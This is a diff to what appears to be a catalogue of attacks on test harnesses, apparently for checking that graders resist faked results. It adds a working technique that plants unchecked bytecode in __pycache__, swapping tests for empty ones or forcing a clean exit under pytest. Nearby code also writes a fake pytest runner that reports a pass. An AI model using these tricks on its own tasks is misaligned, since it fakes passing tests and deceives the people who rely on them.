@@ -19,6 +19,7 @@ __all__ = [
     "NodeModules",
     "PackageScript",
     "PathShims",
+    "PlantedBytecode",
     "RunnerConfig",
     "ShadowRunner",
     "StartupFiles",
@@ -252,6 +253,45 @@ class ShadowRunner:
             steps = (WriteStep(write="pytest.py", text='import sys\n\nprint("1 passed")\nsys.exit(0)\n'),)
         return AttackPlan(
             steps=steps, how="`python -m` looks into the working folder first, and finds this runner there"
+        )
+
+
+_BYTECODE = """\
+import marshal, os, sys
+from importlib.util import MAGIC_NUMBER, cache_from_source
+
+UNCHECKED = 1
+for path in sys.argv[2:]:
+    target = cache_from_source(path)
+    os.makedirs(os.path.dirname(target), exist_ok=True)
+    with open(target, "wb") as file:
+        file.write(MAGIC_NUMBER + UNCHECKED.to_bytes(4, "little") + bytes(8))
+        marshal.dump(compile(sys.argv[1], path, "exec"), file)
+"""
+
+
+class PlantedBytecode:
+    """Leaves compiled code that is not of its sources, in the place where the interpreter keeps its own."""
+
+    name: ClassVar[str] = "planted-bytecode"
+    family: ClassVar[str] = "edited_harness"
+    technique: ClassVar[str] = "__pycache__ that is not of its sources"
+    languages: ClassVar[tuple[str, ...]] = ("python",)
+
+    def plan(self, target: AttackTarget) -> AttackPlan | str:
+        """Tests that ask nothing; under pytest, which compiles tests itself, a product that ends the run."""
+        instead, files = "import unittest\n", target.tests
+        if target.runner == "pytest":
+            instead, files = "import os\nos._exit(0)\n", target.product
+        paths = [path for path in files if path.endswith(".py") and not path.endswith("__init__.py")]
+        if not paths:
+            return "there is no file that could be compiled"
+        words = (word for command in target.commands for word in command.split())
+        python = next((word for word in words if re.search(r"(?:^|/)python[\d.]*$", word)), "python3")
+        plant = shlex.join([python, "-c", _BYTECODE, instead, *paths])
+        return AttackPlan(
+            steps=(RunStep(run=plant),),
+            how="the interpreter believes compiled code that says it need not be compared with its source",
         )
 
 
